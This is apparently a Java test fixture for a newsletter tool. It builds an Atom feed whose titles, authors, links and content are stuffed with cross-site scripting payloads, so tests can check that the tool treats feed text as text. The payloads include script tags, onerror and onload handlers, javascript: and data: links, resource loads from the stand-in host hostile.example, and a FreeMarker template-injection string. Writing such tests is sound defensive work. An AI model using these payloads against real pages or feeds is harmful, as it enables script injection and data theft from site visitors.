package io.courant.desk;

import io.courant.TestHome;
import java.io.IOException;
import java.nio.file.Files;

/** A feed whose titles, bodies, authors and links would do harm if a page took them for more than text. */
final class HostileFeed {
    /** What gives them away: scripts say it, requests go there. */
    static final String MARK = "hostile.example";

    static final String ATOM = """
            <?xml version="1.0" encoding="utf-8"?>
            <feed xmlns="http://www.w3.org/2005/Atom">
              <id>urn:hostile</id><title>&lt;script&gt;alert(0)&lt;/script&gt;</title><updated>2026-11-22T10:00:00Z</updated>
              <author><name>&lt;img src=//hostile.example/feed onerror=alert('hostile.example')&gt;</name></author>
              <entry>
                <id>urn:1</id><updated>2026-11-22T10:00:00Z</updated>
                <title type="text">&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(2)&gt; of wards</title>
                <link href="javascript:alert(3)"/>
                <content type="html">&lt;p&gt;Federated learning &amp;lt;script&amp;gt;alert(4)&amp;lt;/script&amp;gt; keeps
                  data.&lt;/p&gt;&lt;script&gt;alert(5)&lt;/script&gt;&lt;img src=x onerror=alert(6)&gt;</content>
              </entry>
              <entry>
                <id>urn:2</id><updated>2026-11-22T11:00:00Z</updated>
                <title type="text">%s and &#x202e;desrever &#x5d0;&#x5d1;&#x5d2;</title>
                <link href="data:text/html,alert(7)"/>
                <content type="html">&lt;p&gt;Federated learning "&gt;&lt;/textarea&gt;&lt;svg onload=alert(8)&gt; goes on.&lt;/p&gt;</content>
              </entry>
              <entry>
                <id>urn:3</id><updated>2026-11-22T12:00:00Z</updated>
                <author><name>&lt;svg onload="console.log('hostile.example')"&gt;</name></author>
                <title type="html">&lt;img src="https://hostile.example/title.png" onerror="console.log('hostile.example')"&gt; Clinics</title>
                <link href="https://hostile.example/&quot;&gt;&lt;script&gt;console.log('hostile.example')&lt;/script&gt;"/>
                <link rel="enclosure" type="image/png" href="https://hostile.example/enclosure.png"/>
                <content type="html"><![CDATA[
                  <base href="https://hostile.example/"><meta http-equiv="refresh" content="0;url=https://hostile.example/meta">
                  <link rel="stylesheet" href="https://hostile.example/link.css"><link rel="prefetch" href="https://hostile.example/pre">
                  <style>@import url(https://hostile.example/import.css); p { background: url(https://hostile.example/css.png) }</style>
                  <p style="background:url(https://hostile.example/style.png)">Federated learning among clinics
                  <img src="https://hostile.example/img.png" srcset="https://hostile.example/set.png 2x"> goes on.</p>
                  <div hx-get="https://hostile.example/htmx" hx-trigger="load" data-hx-on:load="console.log('hostile.example')">x</div>
                  <div data-stream="https://hostile.example/stream" data-until="2030-01-01T00:00:00Z">x</div>
                  <iframe src="https://hostile.example/frame" srcdoc="<script>console.log('hostile.example')</script>"></iframe>
                  <object data="https://hostile.example/object"></object><embed src="https://hostile.example/embed">
                  <video poster="https://hostile.example/poster.png" src="https://hostile.example/v.mp4" autoplay></video>
                  <form action="https://hostile.example/form"><input name="_csrf" autofocus onfocus="console.log('hostile.example')"></form>
                  <svg><script>console.log('hostile.example')</script><image href="https://hostile.example/svg.png"/></svg>
                  <math><mtext></p><style><img src=x onerror="console.log('hostile.example')"></style></math>
                  <details open ontoggle="console.log('hostile.example')"><summary>x</summary></details>
                  <a href=" java&#10;script:console.log('hostile.example')">press</a>
                  <script src="https://hostile.example/script.js"></script>]]></content>
              </entry>
              <entry>
                <id>urn:4</id><updated>2026-11-22T13:00:00Z</updated>
                <title type="text">${7*7} &lt;#assign x="freemarker.template.utility.Execute"?new()&gt; &lt;/title&gt;&lt;/textarea&gt;&lt;/iframe&gt;&lt;/script&gt;&lt;script&gt;console.log('hostile.example')&lt;/script&gt;</title>
                <link href="//hostile.example/relative"/>
                <summary type="html">Federated learning, &lt;script&gt;console.log('hostile.example')&lt;/script&gt; in short.</summary>
                <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Federated learning in a strict language.</p>
                  <script>console.log('hostile.example')</script><img src="https://hostile.example/xhtml.png" alt="x"/></div></content>
              </entry>
            </feed>
            """.formatted("huge ".repeat(400));

    private HostileFeed() {}

    /** Makes it the source of the newsletter that the desk's tests are about, under another name. */
    static void become(TestHome home, String source) throws IOException {
        Files.writeString(home.jobs().resolve("hostile.atom"), ATOM);
        home.changeJob(
                TestDesk.NEWSLETTER,
                "  - name: Notes\n    folder: notes",
                "  - name: \"" + source + "\"\n    feed: hostile.atom\n    look-back: none");
    }
}
